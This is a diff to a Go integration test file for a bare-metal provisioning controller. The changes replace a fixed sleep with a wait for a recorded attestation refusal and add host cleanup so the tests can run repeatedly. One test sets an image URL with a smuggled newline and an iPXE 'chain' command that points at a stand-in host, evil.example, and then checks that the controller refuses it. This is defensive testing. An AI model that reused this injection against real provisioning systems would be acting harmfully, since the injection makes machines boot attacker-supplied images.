@@ -166,14 +166,18 @@ func TestRefusedRequestsNeverPowerOff(t *testing.T) {
 		if derr != nil || rsp.StatusCode != http.StatusBadRequest || refusal.Reason != wire.ReasonMalformedRequest {
 			return nil, fmt.Errorf("malformed start: want %s/400, got %d %+v (%v)", wire.ReasonMalformedRequest, rsp.StatusCode, refusal, derr)
 		}
-		// Give the controller time to see the refusal before the real attestation lands.
-		time.Sleep(2 * time.Second)
+		// The real attestation lands only once the controller has recorded the refusal on the host, so
+		// the test proves that a recorded refusal leaves the attempt running.
+		if err := awaitRefusalRecorded(ns, "h1", wire.ReasonMalformedRequest); err != nil {
+			return nil, err
+		}
 		return attestWith(ctx, server, second, tpm)
 	}
 	sim := startSim(t, hosts)
 	sim.AddSystem(redfishsim.DefaultSystem("s1", "52:54:00:51:00:01"))
 	startController(t, testReconciler(lab.inv), ns)
 	h := newHost(g, ns, "h1", sim, "s1", "52:54:00:51:00:01", bmcPass)
+	t.Cleanup(func() { deleteHost(t, h) })
 	g.Eventually(state(h)).Should(Equal(metal3v1.StateAvailable))
 	claim(g, ns, h, "survives-refusals")
 	g.Eventually(state(h)).Should(Equal(metal3v1.StateProvisioned))
@@ -185,6 +189,20 @@ func TestRefusedRequestsNeverPowerOff(t *testing.T) {
 	got := getHost(g, h)
 	g.Expect(got.Status.ErrorCount).To(BeZero())
 	g.Expect(condition(h, baremetalhost.BareMetalHostAttestedCondition)(g).Reason).To(Equal(attest.ReasonReleased))
+}
+
+// awaitRefusalRecorded waits (up to a minute) until the controller has set host ns/name's Provisioned
+// condition to AttestationRefused for the given boot server reason. It runs on the simulated host's
+// goroutine, so it returns the failure instead of failing the test there.
+func awaitRefusalRecorded(ns, name, reason string) error {
+	var failure string
+	g := NewGomega(func(message string, _ ...int) { failure = message })
+	h := &metal3v1.BareMetalHost{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name}}
+	if !g.Eventually(condition(h, baremetalhost.BareMetalHostProvisionedCondition)).WithTimeout(time.Minute).WithPolling(200 * time.Millisecond).Should(And(
+		HaveField("Reason", baremetalhost.BareMetalHostAttestationRefusedReason), HaveField("Message", ContainSubstring(reason)))) {
+		return fmt.Errorf("the controller never recorded the %s refusal on host %s/%s: %s", reason, ns, name, failure)
+	}
+	return nil
 }
 
 // Boot MACs are unique across every managed host in every namespace: a host in another namespace that
@@ -242,9 +260,13 @@ func TestImageURLInjectionRefused(t *testing.T) {
 	sim.AddSystem(redfishsim.DefaultSystem("s1", "52:54:00:53:00:01"))
 	startController(t, testReconciler(lab.inv), ns)
 	h := newHost(g, ns, "h1", sim, "s1", "52:54:00:53:00:01", bmcPass)
+	// Boot MACs are unique across namespaces: the host goes (while the controller still runs to take its
+	// finalizer off) so that a second run of this test (-count=2) can register the same MAC again.
+	t.Cleanup(func() { deleteHost(t, h) })
 	g.Eventually(state(h)).Should(Equal(metal3v1.StateAvailable))
-	claim(g, ns, h, "never")
-	patchHost(g, h, func(h *metal3v1.BareMetalHost) {
+	// The URL is in the claim itself: a claim with a clean URL, edited afterwards, could be PXE-booted
+	// in between (it was, on a warm second run).
+	claim(g, ns, h, "never", func(h *metal3v1.BareMetalHost) {
 		h.Spec.Image.URL = "http://images.example/live.iso\nchain http://evil.example/x"
 	})
 	g.Eventually(condition(h, baremetalhost.BareMetalHostProvisionedCondition)).Should(And(
@@ -253,4 +275,15 @@ func TestImageURLInjectionRefused(t *testing.T) {
 	_, ok := lab.inv.HostByMAC(mustMAC("52:54:00:53:00:01"))
 	g.Expect(ok).To(BeFalse())
 	g.Consistently(func() int { return sim.State("s1").PXEBoots }, "2s").Should(BeZero())
+}
+
+// deleteHost deletes h and waits until the controller has removed its finalizer and the host is gone.
+func deleteHost(t *testing.T, h *metal3v1.BareMetalHost) {
+	t.Helper()
+	g := NewWithT(t)
+	ctx := context.Background()
+	g.Expect(client.IgnoreNotFound(env.Delete(ctx, h))).To(Succeed())
+	g.Eventually(func() error {
+		return env.GetAPIReader().Get(ctx, client.ObjectKeyFromObject(h), &metal3v1.BareMetalHost{})
+	}, "60s").Should(Satisfy(apierrors.IsNotFound), "host %s/%s is deleted", h.Namespace, h.Name)
 }
